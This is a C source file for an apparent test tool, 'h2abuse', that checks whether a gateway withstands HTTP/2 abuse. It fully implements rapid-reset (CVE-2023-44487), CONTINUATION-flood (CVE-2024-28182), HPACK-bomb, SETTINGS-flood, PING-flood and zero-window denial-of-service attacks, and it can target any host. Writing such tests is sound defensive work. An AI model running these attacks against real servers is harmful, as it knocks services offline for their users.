/* HTTP/2 abuse client for the gateway's abuse specs (issue 14, "HTTP/2 abuse
 * is bounded"; driven by spec/h2/h2_abuse_spec.lua): connects over plain TCP
 * with HTTP/2 prior knowledge (h2c), runs ONE attack -- rapid reset
 * (CVE-2023-44487), CONTINUATION flood (CVE-2024-28182), HPACK bomb, SETTINGS
 * flood, PING flood or zero-window stall -- bounded by --count and --seconds,
 * then prints one JSON line saying what the server did (GOAWAY and its error,
 * RST_STREAMs, whether it closed the connection). Frames are written by hand;
 * header blocks come from libnghttp2's HPACK deflater (the bomb's by hand).
 * Usage: h2abuse --port P --attack NAME [options], see usage(). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <nghttp2/nghttp2.h>

/* frame types and flags (RFC 9113 section 6) */
enum { F_DATA = 0, F_HEADERS = 1, F_RST_STREAM = 3, F_SETTINGS = 4, F_PING = 6, F_GOAWAY = 7,
       F_WINDOW_UPDATE = 8, F_CONTINUATION = 9 };
enum { FL_ACK = 0x1, FL_END_STREAM = 0x1, FL_END_HEADERS = 0x4 };
enum { S_HEADER_TABLE_SIZE = 1, S_MAX_CONCURRENT_STREAMS = 3, S_INITIAL_WINDOW_SIZE = 4 };
#define ERR_CANCEL 0x8
#define MAX_FRAME 16384 /* every peer accepts frames this large */
#define OUT_FLUSH (64 * 1024)
#define OUT_FRAMES 8192
#define MAX_EXTRA 16

enum attack { A_RAPID_RESET, A_CONTINUATION, A_HPACK_BOMB, A_SETTINGS_FLOOD, A_PING_FLOOD,
              A_ZERO_WINDOW };
static const struct { const char *name; enum attack a; int reads; } attacks[] = {
  { "rapid-reset", A_RAPID_RESET, 1 },     { "continuation", A_CONTINUATION, 1 },
  { "hpack-bomb", A_HPACK_BOMB, 1 },       { "settings-flood", A_SETTINGS_FLOOD, 0 },
  { "ping-flood", A_PING_FLOOD, 0 },       { "zero-window", A_ZERO_WINDOW, 1 },
};

static struct {
  const char *host, *port, *path, *authority, *attack_name;
  enum attack attack;
  int reads; /* reads (and answers SETTINGS/PING) while attacking */
  long long count;
  double seconds, drain;
  int bomb_refs, bomb_size, cont_bytes;
  const char *extra[MAX_EXTRA];
  int nextra;
} opt = { .host = "127.0.0.1", .path = "/healthz", .count = -1, .seconds = 5, .drain = 1,
          .bomb_refs = 16000, .bomb_size = 4000, .cont_bytes = 8 };

/* what was sent and seen */
static struct {
  int fd;
  long long frames_sent, bytes_sent, bytes_read, frames_read, streams_opened;
  long long rst_received, rst_codes[14], rst_other;
  long long headers_received, data_received, settings_received, settings_acks, pings_received;
  int goaway, closed_by_server, dead;
  uint32_t goaway_error, goaway_last_stream;
  char goaway_debug[160];
  uint32_t server_table_size;
  int got_settings;
  char error[200];
  nghttp2_hd_deflater *deflater;
  /* incoming frame parser */
  unsigned char hdr[9];
  size_t hdr_have;
  uint32_t left; /* payload bytes still to come */
  unsigned char keep[1024];
  size_t keep_have;
  /* outgoing batch: bytes and where each frame ends */
  unsigned char *out;
  size_t out_len, out_cap, out_sent;
  size_t ends[OUT_FRAMES];
  int nends, ends_done;
} st = { .fd = -1, .server_table_size = 4096 };

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static const char *error_name(uint32_t code) {
  static const char *const names[] = { "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR",
    "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR",
    "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
    "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED" };
  static char buf[16];
  if (code < sizeof names / sizeof names[0]) return names[code];
  snprintf(buf, sizeof buf, "0x%x", code);
  return buf;
}

static void put32(unsigned char *p, uint32_t v) {
  p[0] = v >> 24; p[1] = v >> 16; p[2] = v >> 8; p[3] = v;
}
static uint32_t get32(const unsigned char *p) {
  return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

/* ---- output: frames are appended to a batch, sent by flush() ---- */

static unsigned char *out_reserve(size_t n) {
  if (st.out_len + n > st.out_cap) {
    size_t cap = st.out_cap ? st.out_cap : 256 * 1024;
    while (cap < st.out_len + n) cap *= 2;
    unsigned char *p = realloc(st.out, cap);
    if (!p) { perror("realloc"); exit(1); }
    st.out = p;
    st.out_cap = cap;
  }
  unsigned char *p = st.out + st.out_len;
  st.out_len += n;
  return p;
}

static void mark_frame_end(void) {
  if (st.nends < OUT_FRAMES) st.ends[st.nends++] = st.out_len;
  else st.frames_sent++; /* not tracked (never happens: flushed before) */
}

static void frame(int type, int flags, uint32_t sid, const void *payload, size_t len) {
  unsigned char *p = out_reserve(9 + len);
  p[0] = len >> 16; p[1] = len >> 8; p[2] = len;
  p[3] = type; p[4] = flags;
  put32(p + 5, sid & 0x7fffffffu);
  if (len) memcpy(p + 9, payload, len);
  mark_frame_end();
}

static int out_full(void) { return st.out_len >= OUT_FLUSH || st.nends >= OUT_FRAMES - 8; }

/* Counts the frames of the batch that went out whole. */
static void count_sent_frames(void) {
  while (st.ends_done < st.nends && st.ends[st.ends_done] <= st.out_sent) {
    st.frames_sent++;
    st.ends_done++;
  }
}

static void handle_input(void);

/* The server is gone (EOF, reset, broken pipe) or the socket failed. */
static void mark_dead(int err) {
  if (st.dead) return;
  st.dead = 1;
  if (err == 0 || err == ECONNRESET || err == EPIPE) st.closed_by_server = 1;
  else if (!st.error[0]) snprintf(st.error, sizeof st.error, "socket: %s", strerror(err));
}

/* The server's first frame is not SETTINGS: it does not speak h2c (say, an
 * HTTP/1.1 400). Says so in "error" and reads the rest as bytes only. */
static int not_http2;
static void not_h2(const unsigned char *rest, size_t n) {
  char text[48];
  size_t k = 0;
  for (size_t i = 0; i < 9 + n && k < sizeof text - 1; i++) {
    unsigned char c = i < 9 ? st.hdr[i] : rest[i - 9];
    text[k++] = c >= 0x20 && c < 0x7f ? (char)c : '.';
  }
  text[k] = 0;
  not_http2 = 1;
  if (!st.error[0]) snprintf(st.error, sizeof st.error, "not HTTP/2: the server sent \"%s\"", text);
}

/* Reads whatever is there without blocking; returns 1 if anything came.
 * Also after the connection died: what arrived before the close or reset
 * (a GOAWAY most of all) is still in the socket to be read. */
static int read_some(void) {
  unsigned char buf[65536];
  int got = 0;
  for (;;) {
    ssize_t n = recv(st.fd, buf, sizeof buf, 0);
    if (n > 0) {
      got = 1;
      st.bytes_read += n;
      for (ssize_t i = 0; i < n && !not_http2;) {
        /* feed the parser: header bytes, then payload bytes */
        if (st.hdr_have < 9) {
          size_t take = 9 - st.hdr_have;
          if (take > (size_t)(n - i)) take = n - i;
          memcpy(st.hdr + st.hdr_have, buf + i, take);
          st.hdr_have += take;
          i += take;
          if (st.hdr_have < 9) break;
          st.left = (uint32_t)st.hdr[0] << 16 | st.hdr[1] << 8 | st.hdr[2];
          st.keep_have = 0;
          if (st.frames_read == 0 && st.hdr[3] != F_SETTINGS) {
            not_h2(buf + i, (size_t)(n - i));
            break;
          }
        }
        size_t take = st.left;
        if (take > (size_t)(n - i)) take = n - i;
        size_t keep = take;
        if (keep > sizeof st.keep - st.keep_have) keep = sizeof st.keep - st.keep_have;
        memcpy(st.keep + st.keep_have, buf + i, keep);
        st.keep_have += keep;
        st.left -= take;
        i += take;
        if (st.left == 0) {
          handle_input();
          st.hdr_have = 0;
        }
      }
    } else if (n == 0) {
      mark_dead(0);
      break;
    } else if (errno == EINTR) {
      continue;
    } else {
      if (errno != EAGAIN && errno != EWOULDBLOCK) mark_dead(errno);
      break;
    }
  }
  return got;
}

/* One whole incoming frame is in st.hdr (and the first bytes of its payload
 * in st.keep): count it, answer SETTINGS and PING when this attack reads. */
static void handle_input(void) {
  uint32_t len = (uint32_t)st.hdr[0] << 16 | st.hdr[1] << 8 | st.hdr[2];
  int type = st.hdr[3], flags = st.hdr[4];
  st.frames_read++;
  switch (type) {
  case F_DATA: st.data_received += len; break;
  case F_HEADERS: st.headers_received++; break;
  case F_RST_STREAM:
    st.rst_received++;
    if (st.keep_have >= 4) {
      uint32_t code = get32(st.keep);
      if (code < sizeof st.rst_codes / sizeof st.rst_codes[0]) st.rst_codes[code]++;
      else st.rst_other++;
    }
    break;
  case F_SETTINGS:
    if (flags & FL_ACK) {
      st.settings_acks++;
      break;
    }
    st.settings_received++;
    st.got_settings = 1;
    for (size_t i = 0; i + 6 <= st.keep_have; i += 6) {
      unsigned id = st.keep[i] << 8 | st.keep[i + 1];
      uint32_t v = get32(st.keep + i + 2);
      if (id == S_HEADER_TABLE_SIZE) {
        st.server_table_size = v;
        if (st.deflater) nghttp2_hd_deflate_change_table_size(st.deflater, v < 4096 ? v : 4096);
      }
    }
    if (opt.reads) frame(F_SETTINGS, FL_ACK, 0, NULL, 0);
    break;
  case F_PING:
    if (!(flags & FL_ACK)) {
      st.pings_received++;
      if (opt.reads && st.keep_have >= 8) frame(F_PING, FL_ACK, 0, st.keep, 8);
    }
    break;
  case F_GOAWAY:
    if (st.keep_have >= 8) {
      uint32_t code = get32(st.keep + 4);
      /* a graceful NO_ERROR GOAWAY may precede the final one: keep the worst */
      if (!st.goaway || code != 0) {
        st.goaway_error = code;
        st.goaway_last_stream = get32(st.keep) & 0x7fffffffu;
        size_t dl = st.keep_have - 8;
        if (dl > sizeof st.goaway_debug - 1) dl = sizeof st.goaway_debug - 1;
        memcpy(st.goaway_debug, st.keep + 8, dl);
        st.goaway_debug[dl] = 0;
      }
    }
    st.goaway = 1;
    break;
  default: break;
  }
}

/* Sends the batch. Returns 0 when all of it went out, -1 when the connection
 * is gone or the deadline passed first. Reads meanwhile when the attack
 * reads (answers are appended to the batch and sent too). */
static int flush(double deadline) {
  while (st.out_sent < st.out_len && !st.dead) {
    ssize_t n = send(st.fd, st.out + st.out_sent, st.out_len - st.out_sent, MSG_NOSIGNAL);
    if (n > 0) {
      st.out_sent += n;
      st.bytes_sent += n;
      count_sent_frames();
      continue;
    }
    if (n < 0 && errno == EINTR) continue;
    if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
      mark_dead(errno);
      break;
    }
    double left = deadline - now();
    if (left <= 0) break;
    struct pollfd p = { .fd = st.fd, .events = POLLOUT | (opt.reads ? POLLIN : 0) };
    int ms = left > 0.2 ? 200 : (int)(left * 1000) + 1;
    if (poll(&p, 1, ms) > 0 && (p.revents & (POLLIN | POLLHUP | POLLERR)) && opt.reads) read_some();
  }
  if (st.out_sent < st.out_len) return -1;
  st.out_len = st.out_sent = 0;
  st.nends = st.ends_done = 0;
  return 0;
}

/* Reads (answering SETTINGS/PING when the attack reads) until the deadline,
 * the server closes, or until() says so. */
static void read_until(double deadline, int (*until)(void)) {
  while (!st.dead) {
    if (until && until()) return;
    double left = deadline - now();
    if (left <= 0) return;
    struct pollfd p = { .fd = st.fd, .events = POLLIN };
    int ms = left > 0.2 ? 200 : (int)(left * 1000) + 1;
    if (poll(&p, 1, ms) > 0) read_some();
    if (opt.reads && st.out_len) flush(deadline);
  }
}

static int have_settings(void) { return st.got_settings; }

/* ---- header blocks ---- */

/* A GET for --path (plus --header extras) through the deflater. */
static size_t request_block(unsigned char *buf, size_t cap, int sse) {
  nghttp2_nv nv[4 + MAX_EXTRA + 1];
  char names[MAX_EXTRA][128];
  size_t n = 0;
#define NV(nm, nmlen, val, vallen) \
  nv[n++] = (nghttp2_nv){ (uint8_t *)(nm), (uint8_t *)(val), (nmlen), (vallen), NGHTTP2_NV_FLAG_NONE }
  NV(":method", 7, "GET", 3);
  NV(":scheme", 7, "http", 4);
  NV(":authority", 10, opt.authority, strlen(opt.authority));
  NV(":path", 5, opt.path, strlen(opt.path));
  if (sse) NV("accept", 6, "text/event-stream", 17);
  for (int i = 0; i < opt.nextra; i++) {
    const char *colon = strchr(opt.extra[i], ':');
    size_t nl = colon - opt.extra[i];
    if (nl >= sizeof names[i]) nl = sizeof names[i] - 1;
    for (size_t k = 0; k < nl; k++) {
      char c = opt.extra[i][k];
      names[i][k] = c >= 'A' && c <= 'Z' ? c + 32 : c; /* h2 names are lower case */
    }
    const char *v = colon + 1;
    while (*v == ' ') v++;
    NV(names[i], nl, v, strlen(v));
  }
#undef NV
  ssize_t r = nghttp2_hd_deflate_hd(st.deflater, buf, cap, nv, n);
  if (r < 0) {
    fprintf(stderr, "h2abuse: deflate: %s\n", nghttp2_strerror((int)r));
    exit(1);
  }
  return (size_t)r;
}

/* HPACK integer with an n-bit prefix (RFC 7541 5.1). */
static size_t hpack_int(unsigned char *p, unsigned first, int nbits, size_t v) {
  size_t max = (1u << nbits) - 1, i = 0;
  if (v < max) {
    p[i++] = first | v;
    return i;
  }
  p[i++] = first | max;
  v -= max;
  while (v >= 128) {
    p[i++] = (v & 0x7f) | 0x80;
    v >>= 7;
  }
  p[i++] = v;
  return i;
}

/* A plain (not Huffman) string literal. */
static size_t hpack_str(unsigned char *p, const char *s, size_t len) {
  size_t i = hpack_int(p, 0x00, 7, len);
  memcpy(p + i, s, len);
  return i + len;
}

/* ---- the attacks ---- */

static int time_left(double deadline) { return now() < deadline && !st.dead; }

static uint32_t next_sid = 1;
static int take_sid(uint32_t *sid) {
  if (next_sid > 0x7ffffffdu) return 0;
  *sid = next_sid;
  next_sid += 2;
  st.streams_opened++;
  return 1;
}

static void rapid_reset(double deadline) {
  unsigned char block[4096], code[4];
  put32(code, ERR_CANCEL);
  for (long long i = 0; i < opt.count && time_left(deadline);) {
    for (; i < opt.count && !out_full(); i++) {
      uint32_t sid;
      if (!take_sid(&sid)) return;
      size_t n = request_block(block, sizeof block, 0);
      frame(F_HEADERS, FL_END_STREAM | FL_END_HEADERS, sid, block, n);
      frame(F_RST_STREAM, 0, sid, code, 4);
    }
    if (flush(deadline) < 0) return;
    if (opt.reads) read_some();
  }
}

static void continuation(double deadline) {
  unsigned char block[4096];
  uint32_t sid = 1;
  take_sid(&sid);
  size_t n = request_block(block, sizeof block, 0);
  frame(F_HEADERS, FL_END_STREAM, sid, block, n); /* no END_HEADERS */
  /* each CONTINUATION: one literal header field without indexing, new name
   * "x-c", a value of --cont-bytes letters: a block that never ends */
  unsigned char field[MAX_FRAME];
  size_t vlen = (size_t)opt.cont_bytes;
  char *value = malloc(vlen + 1);
  if (!value) exit(1);
  for (long long i = 0; i < opt.count && time_left(deadline);) {
    for (; i < opt.count && !out_full(); i++) {
      for (size_t k = 0; k < vlen; k++) value[k] = 'a' + (i + k) % 26;
      size_t f = 0;
      field[f++] = 0x00;
      f += hpack_str(field + f, "x-c", 3);
      f += hpack_str(field + f, value, vlen);
      frame(F_CONTINUATION, 0, sid, field, f);
    }
    if (flush(deadline) < 0) break;
    read_some();
  }
  free(value);
}

/* One literal with incremental indexing of about --bomb-size bytes (it fits
 * the server's table: index 62 is then that entry), then --bomb-refs indexed
 * references to it: ~bomb_size * bomb_refs bytes of headers once decoded,
 * sent as HEADERS + CONTINUATIONs on a fresh stream, again and again. */
static void hpack_bomb(double deadline) {
  read_until(now() + 1.0 < deadline ? now() + 1.0 : deadline, have_settings);
  size_t size = (size_t)opt.bomb_size;
  const char *name = "x-bomb";
  size_t nlen = strlen(name);
  if (st.server_table_size < 32 + nlen + 1) size = 1; /* no room: the reference is an error */
  else if (32 + nlen + size > st.server_table_size) size = st.server_table_size - 32 - nlen;
  char *value = malloc(size);
  size_t cap = 64 + strlen(opt.path) + strlen(opt.authority) + size + 16 + (size_t)opt.bomb_refs;
  unsigned char *block = malloc(cap);
  if (!value || !block) exit(1);
  memset(value, 'B', size);
  size_t b = 0;
  /* request pseudo-headers from the static table only (never indexed), so
   * the dynamic table holds the bomb alone */
  block[b++] = 0x82;                               /* :method GET */
  block[b++] = 0x86;                               /* :scheme http */
  b += hpack_int(block + b, 0x00, 4, 1);           /* :authority, without indexing */
  b += hpack_str(block + b, opt.authority, strlen(opt.authority));
  b += hpack_int(block + b, 0x00, 4, 4);           /* :path, without indexing */
  b += hpack_str(block + b, opt.path, strlen(opt.path));
  block[b++] = 0x40;                               /* literal, incremental indexing, new name */
  b += hpack_str(block + b, name, nlen);
  b += hpack_str(block + b, value, size);
  memset(block + b, 0x80 | 62, (size_t)opt.bomb_refs); /* indexed: the entry just added */
  b += (size_t)opt.bomb_refs;
  free(value);
  for (long long i = 0; i < opt.count && time_left(deadline); i++) {
    uint32_t sid;
    if (!take_sid(&sid)) break;
    for (size_t off = 0; off < b;) {
      size_t n = b - off > MAX_FRAME ? MAX_FRAME : b - off;
      int last = off + n == b;
      if (off == 0) frame(F_HEADERS, FL_END_STREAM | (last ? FL_END_HEADERS : 0), sid, block, n);
      else frame(F_CONTINUATION, last ? FL_END_HEADERS : 0, sid, block + off, n);
      off += n;
    }
    if (out_full() || i + 1 == opt.count) {
      if (flush(deadline) < 0) break;
      read_some();
    }
  }
  free(block);
}

static void settings_flood(double deadline) {
  unsigned char s[6] = { 0, S_MAX_CONCURRENT_STREAMS };
  put32(s + 2, 100);
  for (long long i = 0; i < opt.count && time_left(deadline);) {
    for (; i < opt.count && !out_full(); i++) frame(F_SETTINGS, 0, 0, s, sizeof s);
    if (flush(deadline) < 0) return;
  }
}

static void ping_flood(double deadline) {
  unsigned char data[8] = { 0 };
  for (long long i = 0; i < opt.count && time_left(deadline);) {
    for (; i < opt.count && !out_full(); i++) {
      put32(data + 4, (uint32_t)i);
      frame(F_PING, 0, 0, data, 8);
    }
    if (flush(deadline) < 0) return;
  }
}

/* INITIAL_WINDOW_SIZE=0 went out with the preface: open --count streams and
 * hold them, never sending WINDOW_UPDATE, until --seconds have passed. */
static void zero_window(double deadline) {
  unsigned char block[4096];
  for (long long i = 0; i < opt.count && time_left(deadline); i++) {
    uint32_t sid;
    if (!take_sid(&sid)) break;
    size_t n = request_block(block, sizeof block, 1);
    frame(F_HEADERS, FL_END_STREAM | FL_END_HEADERS, sid, block, n);
    if (out_full() && flush(deadline) < 0) return;
  }
  if (flush(deadline) < 0) return;
  read_until(deadline, NULL);
}

/* ---- setup, report ---- */

static int connect_to(double deadline) {
  struct addrinfo hints = { .ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM }, *res, *ai;
  int rc = getaddrinfo(opt.host, opt.port, &hints, &res);
  if (rc) {
    snprintf(st.error, sizeof st.error, "resolve %s: %s", opt.host, gai_strerror(rc));
    return -1;
  }
  int err = ETIMEDOUT;
  for (ai = res; ai; ai = ai->ai_next) {
    int fd = socket(ai->ai_family, ai->ai_socktype | SOCK_NONBLOCK | SOCK_CLOEXEC, ai->ai_protocol);
    if (fd < 0) { err = errno; continue; }
    if (connect(fd, ai->ai_addr, ai->ai_addrlen) < 0 && errno != EINPROGRESS) {
      err = errno;
      close(fd);
      continue;
    }
    struct pollfd p = { .fd = fd, .events = POLLOUT };
    double left = deadline - now();
    int soerr = ETIMEDOUT;
    socklen_t sl = sizeof soerr;
    if (left > 0 && poll(&p, 1, (int)(left * 1000) + 1) > 0)
      getsockopt(fd, SOL_SOCKET, SO_ERROR, &soerr, &sl);
    if (soerr) {
      err = soerr;
      close(fd);
      continue;
    }
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    freeaddrinfo(res);
    st.fd = fd;
    return 0;
  }
  freeaddrinfo(res);
  snprintf(st.error, sizeof st.error, "connect %s:%s: %s", opt.host, opt.port, strerror(err));
  return -1;
}

static void json_str(const char *s) {
  putchar('"');
  for (; *s; s++) {
    unsigned char c = (unsigned char)*s;
    if (c == '"' || c == '\\') printf("\\%c", c);
    else if (c < 0x20 || c >= 0x7f) printf("\\u%04x", c);
    else putchar(c);
  }
  putchar('"');
}

static void report(double seconds) {
  printf("{\"attack\":");
  json_str(opt.attack_name);
  printf(",\"frames_sent\":%lld,\"bytes_sent\":%lld,\"bytes_read\":%lld,\"frames_read\":%lld",
         st.frames_sent, st.bytes_sent, st.bytes_read, st.frames_read);
  printf(",\"streams_opened\":%lld,\"goaway\":%s,\"goaway_error\":", st.streams_opened,
         st.goaway ? "true" : "false");
  if (st.goaway) json_str(error_name(st.goaway_error));
  else printf("null");
  printf(",\"goaway_last_stream\":%u,\"goaway_debug\":", st.goaway_last_stream);
  json_str(st.goaway_debug);
  printf(",\"rst_received\":%lld,\"rst_codes\":{", st.rst_received);
  int first = 1;
  for (size_t c = 0; c < sizeof st.rst_codes / sizeof st.rst_codes[0]; c++) {
    if (!st.rst_codes[c]) continue;
    printf("%s\"%s\":%lld", first ? "" : ",", error_name((uint32_t)c), st.rst_codes[c]);
    first = 0;
  }
  if (st.rst_other) printf("%s\"other\":%lld", first ? "" : ",", st.rst_other);
  printf("},\"headers_received\":%lld,\"data_received\":%lld,\"settings_received\":%lld"
         ",\"settings_acks\":%lld,\"pings_received\":%lld",
         st.headers_received, st.data_received, st.settings_received, st.settings_acks,
         st.pings_received);
  printf(",\"closed_by_server\":%s,\"seconds\":%.3f,\"error\":", st.closed_by_server ? "true" : "false",
         seconds);
  if (st.error[0]) json_str(st.error);
  else printf("null");
  printf("}\n");
  fflush(stdout);
}

static void usage(FILE *f) {
  fprintf(f,
    "usage: h2abuse --port P --attack NAME [options]\n"
    "Connects with HTTP/2 prior knowledge (h2c), runs one attack, prints one JSON line.\n"
    "  --host H          server address (default 127.0.0.1)\n"
    "  --port P          server port (required)\n"
    "  --attack NAME     rapid-reset | continuation | hpack-bomb | settings-flood |\n"
    "                    ping-flood | zero-window\n"
    "  --count N         units of attack: HEADERS+RST pairs, CONTINUATION frames, bomb\n"
    "                    blocks, SETTINGS or PING frames, zero-window streams\n"
    "                    (defaults 100000, 100000, 50, 100000, 100000, 10)\n"
    "  --seconds S       the attack stops after S seconds at most (default 5); zero-window\n"
    "                    holds its streams this long\n"
    "  --drain S         then reads what the server still sends for up to S s (default 1)\n"
    "  --path P          :path of the requests (default /healthz)\n"
    "  --authority A     :authority (default HOST:PORT)\n"
    "  --header 'N: V'   an extra request header (repeatable, up to %d)\n"
    "  --bomb-size B     hpack-bomb: bytes of the indexed header (default 4000)\n"
    "  --bomb-refs R     hpack-bomb: references to it per block (default 16000)\n"
    "  --cont-bytes B    continuation: value bytes per CONTINUATION frame (default 8)\n"
    "Exit 0 once the attack ran (whatever the server did), 1 if it could not connect,\n"
    "2 on bad usage.\n", MAX_EXTRA);
}

static double num(const char *s, const char *what) {
  char *end;
  double v = strtod(s, &end);
  if (*s == 0 || *end != 0 || v < 0) {
    fprintf(stderr, "h2abuse: bad %s: %s\n", what, s);
    exit(2);
  }
  return v;
}

static void parse_args(int argc, char **argv) {
  for (int i = 1; i < argc; i++) {
    const char *a = argv[i];
    if (!strcmp(a, "-h") || !strcmp(a, "--help")) { usage(stdout); exit(0); }
    if (i + 1 >= argc) { fprintf(stderr, "h2abuse: %s needs a value\n", a); usage(stderr); exit(2); }
    const char *v = argv[++i];
    if (!strcmp(a, "--host")) opt.host = v;
    else if (!strcmp(a, "--port")) opt.port = v;
    else if (!strcmp(a, "--attack")) opt.attack_name = v;
    else if (!strcmp(a, "--count")) opt.count = (long long)num(v, a);
    else if (!strcmp(a, "--seconds")) opt.seconds = num(v, a);
    else if (!strcmp(a, "--drain")) opt.drain = num(v, a);
    else if (!strcmp(a, "--path")) opt.path = v;
    else if (!strcmp(a, "--authority")) opt.authority = v;
    else if (!strcmp(a, "--bomb-size")) opt.bomb_size = (int)num(v, a);
    else if (!strcmp(a, "--bomb-refs")) opt.bomb_refs = (int)num(v, a);
    else if (!strcmp(a, "--cont-bytes")) opt.cont_bytes = (int)num(v, a);
    else if (!strcmp(a, "--header")) {
      if (opt.nextra == MAX_EXTRA || !strchr(v, ':') || *v == ':') {
        fprintf(stderr, "h2abuse: bad or too many --header: %s\n", v);
        exit(2);
      }
      opt.extra[opt.nextra++] = v;
    } else {
      fprintf(stderr, "h2abuse: unknown option %s\n", a);
      usage(stderr);
      exit(2);
    }
  }
  if (!opt.port || !opt.attack_name) { usage(stderr); exit(2); }
  size_t k;
  for (k = 0; k < sizeof attacks / sizeof attacks[0]; k++)
    if (!strcmp(attacks[k].name, opt.attack_name)) break;
  if (k == sizeof attacks / sizeof attacks[0]) {
    fprintf(stderr, "h2abuse: unknown attack %s\n", opt.attack_name);
    usage(stderr);
    exit(2);
  }
  opt.attack = attacks[k].a;
  opt.reads = attacks[k].reads;
  if (opt.count < 0) opt.count = opt.attack == A_HPACK_BOMB ? 50 : opt.attack == A_ZERO_WINDOW ? 10 : 100000;
  if (opt.bomb_size < 1 || opt.bomb_size > 65536 || opt.bomb_refs > 1000000 || opt.cont_bytes > 16000) {
    fprintf(stderr, "h2abuse: --bomb-size 1..65536, --bomb-refs up to 1000000, --cont-bytes up to 16000\n");
    exit(2);
  }
  if (!opt.authority) {
    static char auth[300];
    snprintf(auth, sizeof auth, strchr(opt.host, ':') ? "[%s]:%s" : "%s:%s", opt.host, opt.port);
    opt.authority = auth;
  }
  if (strlen(opt.path) > 2000 || strlen(opt.authority) > 300) {
    fprintf(stderr, "h2abuse: --path or --authority too long\n");
    exit(2);
  }
}

int main(int argc, char **argv) {
  parse_args(argc, argv);
  signal(SIGPIPE, SIG_IGN);
  double start = now();
  if (connect_to(start + (opt.seconds < 5 ? 5 : opt.seconds)) < 0) {
    report(now() - start);
    return 1;
  }
  if (nghttp2_hd_deflate_new(&st.deflater, 4096) != 0) {
    fprintf(stderr, "h2abuse: nghttp2_hd_deflate_new failed\n");
    return 1;
  }
  double deadline = start + opt.seconds;

  /* the preface: magic, SETTINGS (window 0 for zero-window), and for the
   * attacks that read a large connection window so responses flow */
  static const char magic[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  memcpy(out_reserve(24), magic, 24);
  unsigned char s[6] = { 0, S_INITIAL_WINDOW_SIZE };
  put32(s + 2, opt.attack == A_ZERO_WINDOW ? 0 : 65535);
  frame(F_SETTINGS, 0, 0, s, sizeof s);
  if (opt.reads && opt.attack != A_ZERO_WINDOW) {
    unsigned char inc[4];
    put32(inc, 1u << 30);
    frame(F_WINDOW_UPDATE, 0, 0, inc, 4);
  }
  if (flush(deadline) == 0) {
    switch (opt.attack) {
    case A_RAPID_RESET: rapid_reset(deadline); break;
    case A_CONTINUATION: continuation(deadline); break;
    case A_HPACK_BOMB: hpack_bomb(deadline); break;
    case A_SETTINGS_FLOOD: settings_flood(deadline); break;
    case A_PING_FLOOD: ping_flood(deadline); break;
    case A_ZERO_WINDOW: zero_window(deadline); break;
    }
  }
  /* what the server still says: GOAWAY, resets, the close; no more answers */
  st.out_len = st.out_sent = 0;
  st.nends = st.ends_done = 0;
  opt.reads = 0;
  read_until(now() + opt.drain, NULL);
  if (st.dead) read_some();
  double seconds = now() - start;
  report(seconds);
  nghttp2_hd_deflate_del(st.deflater);
  if (st.fd >= 0) close(st.fd);
  free(st.out);
  return 0;
}
